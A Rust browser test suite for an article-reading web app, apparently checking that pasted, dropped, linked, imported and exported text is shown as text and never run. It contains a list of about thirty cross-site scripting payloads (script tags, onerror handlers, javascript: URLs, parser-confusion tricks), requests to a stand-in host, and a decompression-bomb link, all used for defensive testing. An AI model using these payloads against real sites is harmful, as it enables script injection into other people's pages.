//! Script injection through every entry point: whatever a text contains is shown as text. None of
//! it runs, becomes an element of the page, or makes a request.
//!
//! The page's Content-Security-Policy would stop most attacks anyway. It must not serve as an
//! excuse, so a test fails on any violation of the policy, and on any element that the page does
//! not make itself.

use anyhow::{Context, Result, ensure};
use browser_tests::{PASTE, Page, Visitor, browse};
use serde_json::{Value, json};
use url::form_urlencoded::byte_serialize;

use crate::make;

/// Attack payloads. Each sets `harmed` if it runs, and every element it makes has the class `harm`.
const PAYLOADS: [&str; 30] = [
    "<script class=harm>harmed=1</script>",
    "<script class=harm src=https://harm.example/x.js></script>",
    "<img class=harm src=x onerror=harmed=1>",
    "<img class=harm src=https://harm.example/x.png>",
    "<svg class=harm onload=harmed=1><script>harmed=1</script></svg>",
    "<svg class=harm><animate onbegin=harmed=1 attributeName=x dur=1s>",
    "<svg class=harm><foreignObject><iframe srcdoc='<script>parent.harmed=1</script>'>",
    "<a class=harm href=javascript:harmed=1>late</a>",
    "<a class=harm href='java&#10;script:harmed=1'>late</a>",
    "<iframe class=harm srcdoc='<script>parent.harmed=1</script>'></iframe>",
    "<iframe class=harm src=javascript:parent.harmed=1></iframe>",
    "<object class=harm data=data:text/html,<script>harmed=1</script>></object>",
    "<embed class=harm src=https://harm.example/x.swf>",
    "<meta class=harm http-equiv=refresh content='0;url=https://harm.example/'>",
    "<base class=harm href=https://harm.example/>",
    "<link class=harm rel=prefetch href=https://harm.example/x>",
    "<link class=harm rel=stylesheet href=https://harm.example/x.css>",
    "<style class=harm>@import url(https://harm.example/x.css);*{display:none}</style>",
    "<form class=harm action=https://harm.example/><input autofocus onfocus=harmed=1></form>",
    "<details class=harm open ontoggle=harmed=1>late</details>",
    "<video class=harm src=https://harm.example/x.mp4 onerror=harmed=1></video>",
    "<math class=harm><mtext><table><mglyph><style><!--</style><img class=harm title='--><img class=harm src=1 onerror=harmed=1>'>",
    "<noscript><p class=harm title='</noscript><img class=harm src=x onerror=harmed=1>'></noscript>",
    "<template class=harm><img class=harm src=x onerror=harmed=1></template>",
    "'\"><img class=harm src=x onerror=harmed=1>",
    "</title></textarea></style></script><img class=harm src=x onerror=harmed=1>",
    "&lt;img class=harm src=x onerror=harmed=1&gt;",
    "&#60;script class=harm&#62;harmed=1&#60;/script&#62;",
    "{{constructor.constructor('harmed=1')()}} ${harmed=1} <%= harmed=1 %>",
    "javascript:harmed=1//data:text/html,<script class=harm>harmed=1</script>",
];

/// From now on, watches for anything a payload could achieve.
const WATCH: &str = "
    window.alarms = [];
    for (const name of ['alert', 'confirm', 'prompt', 'open'])
        window[name] = () => void alarms.push(name);
    document.addEventListener('securitypolicyviolation',
        event => alarms.push(`${event.violatedDirective} ${event.blockedURI}`));
    const kinds = '.harm, script, iframe, frame, object, embed, base, meta, link, style, form:not(.missed-words), video, audio, \
        img, math, foreignObject, animate, template, noscript, portal, [srcdoc], [autofocus]';
    const strange = element => element.matches(kinds)
        || element.getAttributeNames().some(name => name.startsWith('on'))
        || /^\\s*(javascript|data|vbscript):/i.test(element.getAttribute('href') ?? '');
    const look = root => [root, ...root.querySelectorAll('*')].filter(strange)
        .forEach(element => alarms.push(element.outerHTML));
    new MutationObserver(changes => changes.forEach(change => {
        change.addedNodes.forEach(node => node instanceof Element && look(node));
        if (change.type === 'attributes') strange(change.target) && alarms.push(change.target.outerHTML);
    })).observe(document, { subtree: true, childList: true, attributes: true });
    document.querySelectorAll('main, header, dialog').forEach(look);";

/// Asserts that the text is shown as it is, and that nothing ran or got into the document.
async fn is_unharmed(page: &Page, shown: &[&str]) -> Result<()> {
    for text in shown {
        let text = json!(text);
        // A long article is drawn over several frames.
        let script = format!(
            "return document.body.textContent.includes({text})
                || [...document.querySelectorAll('textarea, input')].some(box => box.value.includes({text}))"
        );
        page.until("the text is shown as it is", &script).await?;
    }
    let alarms = page.js("return window.alarms").await?;
    ensure!(alarms == json!([]), "{alarms:#}");
    ensure!(page.js("return window.harmed ?? null").await? == Value::Null);
    let strange = ".harm, iframe, object, embed, base, img, form:not(.missed-words)";
    ensure!(page.count(strange).await? == 0);
    Ok(())
}

/// An article with the payloads in every place.
fn article() -> String {
    let [title, byline, ..] = PAYLOADS;
    let paragraphs = PAYLOADS.iter().map(|payload| {
        format!(
            "The council of Lisbon said {payload} on Monday that the river rose. “It was high, {payload},” said \
             Ann Poe. President Jo{payload} Kalo paid $5 million."
        )
    });
    let paragraphs: Vec<_> = paragraphs.collect();
    format!(
        "{title} in Lisbon\n\nBy Ann {byline} Poe\n\n{}",
        paragraphs.join("\n\n")
    )
}

/// `text` escaped for XML.
fn escaped(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('"', "&quot;")
}

/// `text` escaped for a URL.
fn in_address(text: &str) -> String {
    byte_serialize(text.as_bytes()).collect()
}

/// Opens the page with `what` appended to its URL, and watches.
async fn arrive(page: &Page, what: &str) -> Result<()> {
    page.arrive(what).await?;
    page.js(WATCH).await?;
    Ok(())
}

/// Drops a file.
async fn drop(page: &Page, name: &str, bytes: &[u8]) -> Result<()> {
    let script = "const [name, bytes] = arguments[0];
        const files = new DataTransfer();
        files.items.add(new File([new Uint8Array(bytes)], name));
        for (const kind of ['dragenter', 'dragover', 'drop'])
            document.querySelector('main').dispatchEvent(
                new DragEvent(kind, { dataTransfer: files, bubbles: true, cancelable: true }));";
    let before = page.analysed().await?;
    page.js_with(script, json!([name, bytes])).await?;
    page.analysis_after(before).await
}

#[test]
fn an_injected_element_is_seen_even_if_it_is_removed_again() -> Result<()> {
    browse(Visitor::default(), async |page| {
        page.js(WATCH).await?;
        is_unharmed(page, &[]).await?;
        page.js("const strange = document.createElement('p');
             strange.className = 'harm';
             document.body.append(strange);
             Promise.resolve().then(() => strange.remove());")
            .await?;
        ensure!(is_unharmed(page, &[]).await.is_err());
        Ok(())
    })
}

#[test]
fn pasted_and_typed_markup_is_shown_as_text() -> Result<()> {
    browse(Visitor::default(), async |page| {
        page.js(WATCH).await?;
        page.paste_rich(&article(), "").await?;
        page.analysis_after(0).await?;
        is_unharmed(page, &PAYLOADS).await?;

        page.click("#edit").await?;
        let before = page.analysed().await?;
        let script = "const box = document.querySelector('#paste');
            box.value = arguments[0] + ' And so on.';
            box.dispatchEvent(new InputEvent('input', { bubbles: true }));";
        page.js_with(script, json!(article())).await?;
        page.analysis_after(before).await?;
        is_unharmed(page, &PAYLOADS).await?;
        page.reload().await?;
        page.js(WATCH).await?;
        page.analysis_after(0).await?;
        is_unharmed(page, &PAYLOADS).await
    })
}

#[test]
fn html_from_the_clipboard_is_read_and_never_inserted() -> Result<()> {
    browse(Visitor::default(), async |page| {
        page.js(WATCH).await?;
        for (at, payload) in PAYLOADS.iter().enumerate() {
            let html = format!(
                "<title>{payload}</title><h1>High water {at} {payload}</h1><p class=byline>By Ann {payload}</p>\
                 <p onclick=harmed=1>The river number {at} rose.</p><p>Schools stayed open. {payload}</p>"
            );
            page.find("#paste, #edit").await?;
            let script = format!("{PASTE} paste(document, null, arguments[0]);");
            let before = page.analysed().await?;
            page.js_with(&script, json!(html)).await?;
            page.analysis_after(before).await?;
            is_unharmed(page, &[&format!("High water {at}")]).await?;
        }
        Ok(())
    })
}

#[test]
fn an_articles_form_is_rebuilt_and_nothing_in_it_runs() -> Result<()> {
    browse(Visitor::default(), async |page| {
        page.js(WATCH).await?;
        for (at, payload) in PAYLOADS.iter().enumerate() {
            let quoted = escaped(payload).replace('\'', "&#39;");
            let html = format!(
                "<script type='application/ld+json'>{{\"@type\":\"Article\",\"headline\":{json},\"author\":{json},\"url\":{json}}}</script>\
                 <link rel=canonical href='{quoted}'><meta name=author content='{quoted}'><meta property='og:site_name' content='{quoted}'>\
                 <article><h1>High water {at}</h1><p>The river number {at} rose <em>in the night {payload}</em> and the \
                 <a class=harm href='{quoted}' onclick=harmed=1>old bridge</a> was closed to all.</p>\
                 <table class=harm><tr><th onclick=harmed=1>Day<td>{quoted}<tr><td>Monday<td><a href='{quoted}'>12</a></table>\
                 <ol><li onclick=harmed=1>Schools stayed open, {quoted}, on Monday.<li>Shops did not open on Monday.</ol>\
                 <pre class=harm>{quoted}</pre><blockquote cite='{quoted}'>It was high, said Ann Poe of the council, {quoted}.</blockquote>\
                 <p>More.<sup><a href='#{quoted}'>1</a></sup></p><p id='{quoted}'>A note.</p></article>",
                json = json!(payload).to_string().replace("</", "<\\/"),
            );
            page.find("#paste, #edit").await?;
            let script = format!("{PASTE} paste(document, null, arguments[0]);");
            let before = page.analysed().await?;
            page.js_with(&script, json!(html)).await?;
            page.analysis_after(before).await?;
            is_unharmed(page, &[&format!("High water {at}")])
                .await
                .context(*payload)?;
            let leads = "return [...document.querySelectorAll('#article a')].every(link =>
                /^(https?:\\/\\/|mailto:|#)/.test(link.getAttribute('href')))";
            ensure!(page.js(leads).await? == json!(true), "{payload}");
        }
        Ok(())
    })
}

#[test]
fn markup_in_a_file_is_shown_as_text() -> Result<()> {
    let text = article();
    let escaped = escaped(&text);
    let paragraphs = |open: &str, close: &str| -> String {
        let each = escaped.split("\n\n");
        each.map(|paragraph| format!("{open}{paragraph}{close}"))
            .collect()
    };
    let title = self::escaped(PAYLOADS[0]);
    let word = paragraphs("<w:p><w:r><w:t>", "</w:t></w:r></w:p>");
    let office = format!(
        "<office:text>{}</office:text>",
        paragraphs("<text:p>", "</text:p>")
    );
    let chapter = paragraphs("<p>", "</p>");
    let html = format!(
        "<!doctype html><title>{title}</title>{}",
        paragraphs("<p>", "</p>")
    );
    let rtf = text
        .replace('\\', "\\\\")
        .replace('{', "\\{")
        .replace('}', "\\}");
    let rtf = rtf
        .replace('“', "\\ldblquote ")
        .replace('”', "\\rdblquote ")
        .replace("\n\n", "\\par ");
    let mail = |kind: &str, body: &str| {
        let subject = PAYLOADS[0];
        format!(
            "From: \"{subject}\" <a@x.example>\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n\
             Content-Type: {kind}; charset=utf-8\r\n\r\n{body}\r\n"
        )
    };
    let files: Vec<(&str, Vec<u8>)> = vec![
        ("a.txt", text.clone().into()),
        ("b.html", html.into()),
        ("c.docx", make::docx(&word, &title)),
        ("d.odt", make::odt(&office)),
        ("e.epub", make::epub(&[("a.xhtml", &chapter)], None)),
        (
            "f.rtf",
            format!("{{\\rtf1\\ansi{{\\info{{\\title <b class=harm>}}}} {rtf}}}").into(),
        ),
        ("g.eml", mail("text/plain", &text).into()),
        (
            "h.eml",
            mail("text/html", &paragraphs("<p>", "</p>")).into(),
        ),
        (
            "i.srt",
            format!(
                "1\n00:00:01,000 --> 00:00:02,000\n{}\n",
                PAYLOADS.join("\n")
            )
            .into(),
        ),
    ];
    browse(Visitor::default(), async |page| {
        page.js(WATCH).await?;
        for (name, bytes) in files {
            drop(page, name, &bytes).await.context(name)?;
            // Subtitles have markup of their own, which is stripped.
            let shown = if name.ends_with("srt") {
                &["javascript:harmed=1//data:text/html,"][..]
            } else {
                &PAYLOADS[..]
            };
            is_unharmed(page, shown).await.context(name)?;
        }
        Ok(())
    })
}

#[test]
fn html_files_are_read_and_never_inserted() -> Result<()> {
    browse(Visitor::default(), async |page| {
        page.js(WATCH).await?;
        for (at, payload) in PAYLOADS.iter().enumerate() {
            let says = format!("High water {at}");
            let html =
                format!("<!doctype html><h1>{says}</h1><p>{payload}</p><p>The river rose.</p>");
            drop(page, "a.html", html.as_bytes()).await?;
            is_unharmed(page, &[&says]).await.context(*payload)?;
            let markdown = format!(
                "# {says} {payload}\n\n[late](javascript:harmed=1) ![x](https://harm.example/x.png) \
                 <javascript:harmed=1>\n\n{payload}\n\nThe river rose.\n"
            );
            drop(page, "a.md", markdown.as_bytes()).await?;
            is_unharmed(page, &[&says]).await.context(*payload)?;
        }
        // File names are shown too.
        let name = format!("{}.txt", PAYLOADS[2]);
        drop(page, &name, b"The river rose. Schools stayed open.").await?;
        is_unharmed(page, &[&name]).await?;
        let name = format!("{}.epub", PAYLOADS[4]);
        let chapter = format!("<h1>High water</h1>{}", PAYLOADS[4]);
        drop(page, &name, &make::epub(&[("a.xhtml", &chapter)], None)).await?;
        is_unharmed(page, &["High water"]).await
    })
}

#[test]
fn markup_in_the_address_is_shown_as_text() -> Result<()> {
    browse(Visitor::default(), async |page| {
        for payload in PAYLOADS {
            let text = format!("The river rose, said {payload} in Lisbon. Schools stayed open.");
            let (text, title) = (in_address(&text), in_address(payload));
            let mark = if payload.len() % 2 == 0 { '?' } else { '#' };
            arrive(
                page,
                &format!("{mark}title={title}&text={text}&url={title}"),
            )
            .await?;
            page.analysis_after(0).await?;
            is_unharmed(page, &[payload]).await.context(payload)?;
        }
        for payload in &PAYLOADS[..6] {
            let html = in_address(&format!(
                "<h1>High water</h1><p>The river rose. {payload}</p>"
            ));
            arrive(page, &format!("#html={html}")).await?;
            page.analysis_after(0).await?;
            is_unharmed(page, &["High water"]).await.context(*payload)?;
        }
        Ok(())
    })
}

#[test]
fn the_address_of_a_source_never_becomes_a_link() -> Result<()> {
    browse(Visitor::default(), async |page| {
        for source in [
            "javascript:harmed=1",
            "https://harm.example/",
            "data:text/html,<script>harmed=1</script>",
        ] {
            for text in ["", "&text=The+river+rose.+Schools+stayed+open."] {
                arrive(page, &format!("?url={}{text}", in_address(source))).await?;
                if !text.is_empty() {
                    page.analysis_after(0).await?;
                }
                is_unharmed(page, &[]).await?;
                let links = "return [...document.querySelectorAll('a[href]')]
                    .filter(link => /harm|^data:/.test(link.href)).length";
                ensure!(page.js(links).await? == json!(0));
            }
        }
        Ok(())
    })
}

/// A draft as found in a link or a library file, with payloads in all of its strings.
fn forged() -> Value {
    let named = json!({ "name": "Ann Poe", "kind": "person" });
    let corrections: Vec<_> = PAYLOADS
        .iter()
        .map(|payload| json!({ "Add": { "words": payload, "kind": "work" } }))
        .chain([
            json!({ "Join": { "of": named, "into": { "name": PAYLOADS[2], "kind": "place" } } }),
            json!({ "Split": { "of": named, "written": PAYLOADS[2] } }),
        ])
        .collect();
    json!({
        "text": article(), "length": 30, "title": PAYLOADS[2], "language": PAYLOADS[2],
        "markup": PAYLOADS[2], "corrections": corrections,
    })
}

/// Follows a link that holds `json`, built by the page itself.
const FOLLOW: &str = "
    const packed = new Response(arguments[0]).body.pipeThrough(new CompressionStream('deflate-raw'));
    return new Response(packed).arrayBuffer().then(buffer => {
        let binary = '';
        for (const byte of new Uint8Array(buffer)) binary += String.fromCharCode(byte);
        const field = btoa(binary).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '');
        location.hash = 'z=' + field;
    });";

#[test]
fn markup_in_a_forged_link_is_shown_as_text() -> Result<()> {
    browse(Visitor::default(), async |page| {
        page.js(WATCH).await?;
        page.js_with(FOLLOW, json!(forged().to_string())).await?;
        page.analysis_after(0).await?;
        is_unharmed(page, &PAYLOADS).await?;
        page.reload().await?;
        page.js(WATCH).await?;
        page.analysis_after(0).await?;
        is_unharmed(page, &PAYLOADS).await
    })
}

#[test]
fn a_link_that_unpacks_without_end_is_reported_as_damaged() -> Result<()> {
    browse(Visitor::default(), async |page| {
        let bomb = format!("{}{}", " ".repeat(9_000_000), forged());
        page.js_with(FOLLOW, json!(bomb)).await?;
        page.until(
            "it is told",
            "return document.querySelector('.notice')?.textContent.includes('damaged') === true",
        )
        .await?;
        ensure!(page.analysed().await? == 0);
        Ok(())
    })
}

#[test]
fn markup_in_a_library_file_is_shown_as_text() -> Result<()> {
    browse(Visitor::default(), async |page| {
        page.js(WATCH).await?;
        let entry = |payload: &str| {
            json!({ "id": payload, "title": payload, "words": 9, "read": 1.0, "draft": {
                "text": format!("{payload} {}", article()), "length": 3, "markup": null, "title": payload,
                "language": payload,
            } })
        };
        let entries: Vec<_> = PAYLOADS.iter().map(|payload| entry(payload)).collect();
        let file = json!({ "format": "pith-library", "version": 1, "articles": entries });
        page.click("#library-open").await?;
        page.find("#library-import").await?;
        let choose = "const files = new DataTransfer();
            files.items.add(new File([arguments[0]], '<img class=harm src=x onerror=harmed=1>.json'));
            const chooser = document.querySelector('#library-import');
            chooser.files = files.files;
            chooser.dispatchEvent(new Event('change', { bubbles: true }));";
        page.js_with(choose, json!(file.to_string())).await?;
        page.until(
            "they are there",
            &format!(
                "return document.querySelectorAll('#library .shelf li').length === {}",
                PAYLOADS.len()
            ),
        )
        .await?;
        is_unharmed(page, &PAYLOADS).await?;
        page.type_into("#library-search", PAYLOADS[2]).await?;
        is_unharmed(page, &[]).await?;
        page.click("#library .book").await?;
        page.analysis_after(0).await?;
        is_unharmed(page, &PAYLOADS).await
    })
}

#[test]
fn markup_in_questions_and_corrections_is_shown_as_text() -> Result<()> {
    browse(Visitor::default(), async |page| {
        page.js(WATCH).await?;
        page.paste_rich(&article(), "").await?;
        page.analysis_after(0).await?;
        for payload in &PAYLOADS[..4] {
            let ask = "const box = document.querySelector('#search');
                box.value = arguments[0];
                box.dispatchEvent(new InputEvent('input', { bubbles: true }));";
            page.find("#search").await?;
            page.js_with(ask, json!(payload)).await?;
            page.find("#search").await?;
            is_unharmed(page, &[payload]).await?;
        }
        let select = "const walker = document.createTreeWalker(document.querySelector('#article'), NodeFilter.SHOW_TEXT);
             let node;
             while ((node = walker.nextNode()) && !node.data.includes('onerror=harmed'));
             const range = document.createRange();
             range.selectNode(node);
             getSelection().removeAllRanges();
             getSelection().addRange(range);
             return node.data";
        let before = page.analysed().await?;
        page.js(select).await?;
        page.click("#mark").await?;
        page.click("#mark-sheet [data-kind='product']").await?;
        page.analysis_after(before).await?;
        is_unharmed(page, &PAYLOADS).await
    })
}

#[test]
fn exports_contain_none_of_the_text_as_markup() -> Result<()> {
    browse(Visitor::default(), async |page| {
        page.js_with(FOLLOW, json!(forged().to_string())).await?;
        page.analysis_after(0).await?;
        page.js("navigator.clipboard.write = async ([item]) => {
                 window.taken = await (await item.getType('text/html')).text();
             };
             URL.createObjectURL = blob => {
                 blob.text().then(text => { window.taken = text; });
                 return '#';
             };")
            .await?;
        for way in ["[data-copy='html']", "[data-save='html']"] {
            page.js("window.taken = undefined").await?;
            page.click("#export").await?;
            page.click(way).await?;
            page.until("it is taken", "return window.taken !== undefined")
                .await?;
            // The page's own styles would count against its policy.
            let strange = page
                .js("const taken = new DOMParser().parseFromString(
                         window.taken.replace(/<style>[^<]*<.style>/, ''), 'text/html');
                     return [...taken.querySelectorAll('*')].filter(element =>
                         element.matches('.harm, script, iframe, img, svg, object, embed, base, link, form, math')
                         || element.getAttributeNames().some(name => name.startsWith('on'))
                         || /^(?!#)/.test(element.getAttribute('href') ?? '#')).map(element => element.outerHTML)")
                .await?;
            ensure!(strange == json!([]), "{way}: {strange:#}");
            let text = page.js("return window.taken").await?;
            ensure!(text.as_str().is_some_and(|text| text.contains("&lt;")));
        }
        Ok(())
    })
}
